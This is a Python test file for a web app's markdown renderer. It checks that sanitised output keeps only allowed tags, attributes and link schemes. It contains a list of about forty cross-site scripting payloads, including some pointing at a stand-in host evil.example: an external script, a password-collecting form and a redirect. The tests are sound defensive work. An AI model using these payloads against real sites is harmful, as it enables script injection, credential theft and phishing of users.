"""What people write comes out as text and never as a program."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.markdown_tags import ATTRIBUTES, TAGS
from web.templatetags.web import markdown as to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert%281%29)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](  javascript:alert(1))",
    "![x](x 'y\" onerror=\"alert(1)')",
    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>body{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<p id=content>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<a href=//evil.example target=_blank rel=opener>x</a>",
    "<x-widget onfocus=alert(1) autofocus tabindex=1>",
    "<template><script>alert(1)</script></template>",
]


class Reader(HTMLParser):
    """Everything that a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def read(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    return reader.found


def assert_harmless(html: str) -> None:
    for tag, attributes in read(html):
        assert tag in TAGS
        assert set(attributes) <= {*ATTRIBUTES.get(tag, []), "rel"}
        href = attributes.get("href") or ""
        assert re.match(r"(https?:|mailto:|tel:|/|#|\?|[^:]*$)", href), href


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text):
    assert_harmless(to_html(text))
    assert_harmless(to_html(f"> {text}\n\n- {text}"))


@given(st.text(alphabet="<>&\"'`[]()!:/=# \nabcjsrcipton;", max_size=80))
def test_no_text_at_all_comes_through_as_a_program(text):
    assert_harmless(to_html(text))


def test_what_people_write_is_kept():
    html = to_html("**Ouvrir** le *four*\nle vendredi\n\n1. un\n2. deux\n\n> assez sûr")
    for part in ("<strong>Ouvrir</strong>", "<em>four</em>", "<br>", "<li>deux</li>", "<blockquote>"):
        assert part in html


def test_a_link_promises_nothing_to_the_other_site():
    html = to_html("[le site](https://example.org) et [ici](/decisions/)")
    assert '<a href="https://example.org" rel="nofollow noopener">le site</a>' in html
    assert 'href="/decisions/"' in html


def test_headings_stand_under_those_of_the_page_and_keep_their_order():
    assert re.findall(r"<h(\d)>", to_html("# a\n\n## b\n\n### c")) == ["3", "4", "5"]
    assert re.findall(r"<h(\d)>", to_html("### a\n\n#### b")) == ["3", "4"]
    assert re.findall(r"<h(\d)>", to_html("# a\n\n###### b")) == ["3", "6"]


def test_a_table_says_what_its_columns_hold():
    html = to_html("| Soir | Nombre |\n|---|---|\n| mercredi | 2 |")
    assert '<th scope="col">Soir</th>' in html
    assert "<td>mercredi</td>" in html


def test_a_picture_from_elsewhere_is_not_fetched():
    assert "<img" not in to_html("![vue](https://tracker.example/pixel.png)")


def test_text_with_signs_is_text():
    assert to_html("5 < 6 & 7 > 3") == "<p>5 &lt; 6 &amp; 7 &gt; 3</p>"
